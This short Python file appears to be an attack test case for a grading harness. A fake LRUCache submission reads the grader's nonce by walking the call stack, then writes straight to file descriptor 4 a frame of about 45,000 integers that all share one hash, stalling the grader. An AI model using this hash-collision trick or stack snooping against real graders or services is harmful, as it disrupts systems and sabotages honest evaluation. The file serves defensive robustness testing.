# ATTACK colliding_hashes
# CLASS: protocol
# TRIES: replies with a set of integers that all have the same hash, which takes minutes to build.
# SAFE GRADER MUST: bound the work that a frame can cause, not only its size.
# HONEST-RESULT: fail
# AT-MOST: 0
import json
import os
import sys

def request():
    frame = sys._getframe()
    while frame is not None:
        message = frame.f_locals.get("message")
        if isinstance(message, dict) and "nonce" in message:
            return message
        frame = frame.f_back
    return {"nonce": "0" * 16}


def frame_of(body):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    return len(body).to_bytes(4, "big") + body


def send(data, descriptor=4):
    view = memoryview(data)
    while view:
        view = view[os.write(descriptor, view):]

class LRUCache:
    def __init__(self, capacity):
        pass

    def get(self, key):
        prime = 2**61 - 1
        some = [{"int": str(prime * number)} for number in range(1, 45_000)]
        send(frame_of({"nonce": request()["nonce"], "value": {"set": some}}))

    def put(self, key, value):
        return None
